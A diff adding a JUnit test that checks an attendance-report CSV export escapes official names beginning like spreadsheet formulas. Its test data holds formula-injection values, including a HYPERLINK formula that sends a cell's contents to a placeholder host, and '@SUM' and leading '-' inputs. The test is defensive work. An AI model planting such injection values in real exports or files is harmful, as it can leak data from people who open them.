@@ -12,6 +12,7 @@ import java.time.ZoneId;
 import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
+import org.citizenreception.control.session.SessionState;
 import org.citizenreception.control.testing.TestServer;
 import org.citizenreception.control.user.Role;
 import org.junit.jupiter.api.AfterAll;
@@ -136,5 +137,19 @@ class AttendanceCsvTest {
         for (AttendanceStatus s : AttendanceStatus.values()) {
             assertThat(vi.path("attendance.status." + s.name()).asText()).as(s.name()).isEqualTo(s.wordVi());
         }
+    }
+
+    /** An official's name typed as a formula opens as text in Excel: a leading apostrophe, never a live cell. */
+    @Test
+    void aNameStartingLikeAFormulaIsNeutralised() {
+        Instant live = Instant.parse("2026-11-27T01:00:00Z");
+        AttendanceReport report = new AttendanceReport(7, "Tiếp công dân", SessionState.ENDED, live, live.plusSeconds(3600), 1, 1, 1, 0, 0, 0,
+                List.of(new AttendanceReport.Line("R1", "=HYPERLINK(\"http://x.invalid/\"&A1)", AttendanceReport.Presence.PRESENT,
+                        AttendanceStatus.PRESENT, false, false, false, live, live.plusSeconds(3600), 3600, 60, "60:00",
+                        List.of(new AttendanceReport.Official(1, "@SUM(A1)", "-Chủ tịch", live, "op")), 3, List.of())));
+
+        String line = AttendanceService.csv(report, ZoneId.of("Asia/Ho_Chi_Minh")).lines().toList().get(1);
+
+        assertThat(line).contains("\"'=HYPERLINK(").contains("'@SUM(A1) (-Chủ tịch)").doesNotContain(",=").doesNotContain(",@");
     }
 }
